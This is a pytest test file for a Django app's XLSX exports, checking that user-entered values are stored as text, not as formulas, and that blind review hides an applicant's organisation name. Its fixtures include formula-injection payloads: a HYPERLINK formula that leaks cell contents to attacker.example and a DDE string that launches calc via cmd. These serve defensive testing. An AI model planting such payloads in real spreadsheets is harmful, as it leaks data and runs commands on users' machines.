"""Every export writes what users typed as text, never as an Excel formula (issue 18, finding 5): the library
export's query and facet values, the expert score export, the vote export and the expert's own export."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from jinxuan.exports import xlsx
from tests.helpers.rubric import sheet

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("vote_cache_cleared")]

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    """(value, data_type) of every non-empty cell of every sheet."""
    wb = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type, c.quotePrefix) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def assert_text(content: bytes, value: str) -> None:
    found = [c for c in cells(content) if c[0] == value]
    assert found, f"{value!r} not in the workbook"
    assert all(dtype == "s" and quoted for _, dtype, quoted in found), found
    assert all(dtype != "f" for _, dtype, _ in cells(content))


def test_the_writer_keeps_every_hostile_start_as_text_on_both_kinds_of_sheet():
    wb = Workbook()
    xlsx.append(wb.active, HOSTILE + [Decimal("1.5"), True, None, 3, "普通文本\x01"])
    stream = Workbook(write_only=True)
    xlsx.append(stream.create_sheet("c"), HOSTILE)
    for content in (xlsx.to_bytes(wb), xlsx.to_bytes(stream)):
        assert cells(content)[:len(HOSTILE)] == [(v, "s", True) for v in HOSTILE]
    assert cells(xlsx.to_bytes(wb))[len(HOSTILE):] == [(1.5, "n", False), ("是", "s", False), (3, "n", False),
                                                       ("普通文本", "s", False)]


def test_library_export_writes_the_query_and_facet_values_as_text(client, library):
    response = client.get("/library/export.xlsx", {"q": LINK, "track": "=1+2"})
    assert response.status_code == 200
    assert_text(response.content, LINK)
    assert_text(response.content, "=1+2")
    names = [v for v, _, _ in cells(response.content)]
    assert "赛道" in names and "track" not in names  # the facet is named in Chinese


def test_expert_score_export_and_the_experts_own_export_write_titles_as_text(gz, pool, accepted, organiser,
                                                                           client):
    from jinxuan.review import services

    app = accepted[0]
    app.title = LINK
    app.save()
    a = services.assign_manually(gz, pool[0].expert, app, actor=organiser)
    services.save_review(a, sheet(gz.spec.rubric, 70), submit=True)
    client.force_login(organiser)
    assert_text(client.get(reverse("review_manage:export", args=[gz.slug])).content, LINK)
    client.force_login(pool[0].expert.user)
    response = client.get(reverse("review:my_scores", args=[gz.slug]))
    assert response.status_code == 200
    assert all(dtype != "f" for _, dtype, _ in cells(response.content))


def test_vote_export_writes_titles_as_text(gz, vote_open, voter, organiser, client):
    from jinxuan.voting import services

    app = vote_open[0]
    app.title = LINK
    app.save()
    services.cast(gz, app.pk, voter, ip="10.1.1.1", now=timezone.now() + dt.timedelta(seconds=1))
    client.force_login(organiser)
    assert_text(client.get(reverse("vote_manage:export", args=[gz.slug])).content, LINK)


def test_the_experts_own_export_masks_the_title_as_the_blind_pages_do(gz, pool, accepted, organiser, client):
    """Finding 9: the expert's own workbook shows the title the workspace shows, not the real one."""
    from jinxuan.review import services

    assert services.stage_params(gz).blind
    app = accepted[0]
    lead = app.units.get(is_lead=True).organisation
    app.title = f"{lead.name}智能风控平台"
    app.save()
    services.assign_manually(gz, pool[0].expert, app, actor=organiser)
    client.force_login(pool[0].expert.user)
    page = client.get(reverse("review:workspace", args=[gz.slug])).content.decode()
    values = [v for v, _, _ in cells(client.get(reverse("review:my_scores", args=[gz.slug])).content)]
    assert lead.name not in page
    assert not any(lead.name in str(v) for v in values)
    assert any("智能风控平台" in str(v) for v in values)
    client.force_login(organiser)  # the organiser's export is not blind
    values = [v for v, _, _ in cells(client.get(reverse("review_manage:export", args=[gz.slug])).content)]
    assert app.title in values
